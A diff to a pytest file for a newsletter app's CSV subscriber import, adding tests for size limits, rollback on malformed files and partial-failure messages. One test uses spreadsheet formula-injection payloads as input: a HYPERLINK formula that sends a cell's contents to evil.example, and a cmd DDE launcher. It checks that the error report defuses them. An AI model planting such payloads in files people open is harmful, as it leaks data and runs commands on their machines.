@@ -1,4 +1,5 @@
 """CSV imports: messy files, exact report counts, refusals, atomic resumable batches."""
+import csv
 import io
 import json
 import re
@@ -220,3 +221,88 @@ def test_address_fast_path_takes_ascii_only():
                 expected = None
             if expected is not None:
                 assert addresses.normalize_email(raw) == expected, raw
+
+
+def test_the_invalid_rows_report_defuses_formulas(ctx):
+    """The report opens in a spreadsheet and its cells are whatever the upload held."""
+    content = ('email,name\n'
+               '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",A\n'
+               "+cmd|' /C calc'!A0,B\n"
+               "\uff20SUM(1+1),C\n"
+               "ok@example.com,D\n")
+    job = run_csv(content)
+    assert job.invalid == 3 and job.created == 1
+    rows = list(csv.reader(io.StringIO(imports.invalid_report_path(job).read_text(encoding="utf-8"))))
+    assert [r[1] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+                                       "'+cmd|' /C calc'!A0", "'\uff20SUM(1+1)"]
+    assert all(cell[:1] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" for row in rows for cell in row)
+    assert job.errors[0]["email"].startswith("=HYPERLINK")  # the page shows it as it was (escaped HTML)
+
+
+def test_attributes_past_the_api_limits_are_invalid_rows_and_the_rest_goes_on(ctx):
+    many = [f"k{i}" for i in range(5000)]
+    content = ("email,name,note," + ",".join(many) + "\n"
+               f"big@example.com,Big,{'x' * 20_000}" + "," * len(many) + "\n"
+               "wide@example.com,Wide,," + ",".join("v" for _ in many) + "\n"
+               f"{'long' * 20_000}@example.com,Long,\n"
+               "fine@example.com,Fine,small," + ",".join("v" if i < 3 else "" for i in range(len(many))) + "\n"
+               "big@example.com,Big again,small\n")
+    job = run_csv(content)
+    assert job.status == ImportStatus.DONE
+    assert (job.rows, job.created, job.invalid) == (5, 2, 3)
+    assert subscriber("fine@example.com").attributes == {"note": "small", "k0": "v", "k1": "v", "k2": "v"}
+    assert subscriber("big@example.com").attributes == {"note": "small"}  # its bad row did not claim the address
+    reasons = {e["row"]: e["reason"] for e in job.errors}
+    assert "at most 10,000 characters of JSON" in reasons[2] and "at most 10,000 characters of JSON" in reasons[3]
+    assert len(job.errors[2]["email"]) <= 255  # an 80 kB cell is cut in the report, not stored whole
+
+
+def test_merged_attributes_past_the_limit_are_an_invalid_row(ctx):
+    from newsletter.services import subscribers
+    subscribers.create("full@example.com", attributes={"bio": "b" * 9000})
+    job = run_csv(f"email,extra\nfull@example.com,{'e' * 2000}\nother@example.com,{'e' * 2000}\n")
+    assert (job.invalid, job.created, job.updated) == (1, 1, 0)
+    assert job.errors[0]["row"] == 2 and "already stored" in job.errors[0]["reason"]
+    assert subscriber("full@example.com").attributes == {"bio": "b" * 9000}
+
+
+def test_a_column_name_longer_than_the_api_allows_refuses_the_file(ctx):
+    with pytest.raises(ValidationError, match="at most 100 characters") as excinfo:
+        imports.start(io.BytesIO(f"email,{'k' * 300_000}\na@example.com,1\n".encode()), "keys.csv")
+    assert excinfo.value.field == "file" and len(excinfo.value.message) < 300
+    assert imports.recent() == []
+
+
+@pytest.mark.parametrize("poison, message", [
+    ('"' + "x" * (2 * 1024 * 1024) + '"', "Row 12,002 cannot be read: a field is longer than 1,048,576 characters"),
+    ("nul\x00@example.com", "contains binary data (a NUL byte"),
+])
+def test_a_structural_failure_deep_in_the_file_writes_nothing(ctx, poison, message):
+    content = "email\n" + "".join(f"u{i}@example.com\n" for i in range(12_000)) + poison + "\nlast@example.com\n"
+    job = run_csv(content, batch_size=10_000)
+    assert job.status == ImportStatus.FAILED
+    assert job.failure.startswith("Nothing was imported. ") and message in job.failure
+    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0
+
+
+def test_a_job_that_stops_halfway_says_what_was_applied_and_where_it_stopped(ctx, monkeypatch):
+    from newsletter.tasks.imports import run_import
+    content = "email\n" + "".join(f"p{i}@example.com\n" for i in range(imports.BATCH_SIZE + 50))
+    job = imports.start(io.BytesIO(content.encode()), "p.csv")
+    real_apply, calls = import_writer.apply, []
+
+    def crash_on_second_batch(connection, rows, **kwargs):
+        calls.append(len(rows))
+        if len(calls) == 2:
+            raise KeyError("internal detail that must not reach the page")
+        return real_apply(connection, rows, **kwargs)
+
+    monkeypatch.setattr(import_writer, "apply", crash_on_second_batch)
+    run_import.apply(args=[job.id])  # in this process: the task's own error handling, no retry
+    db.session.rollback()
+    failed = imports.get(job.id)
+    assert failed.status == ImportStatus.FAILED and "internal detail" not in failed.failure
+    assert "KeyError" not in failed.failure
+    assert failed.failure.startswith("Partially imported: the first 10,000 rows were applied (10,000 new, "
+                                     "0 updated, 0 invalid), stopped at row 10,002. An internal error stopped it")
+    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 10_000
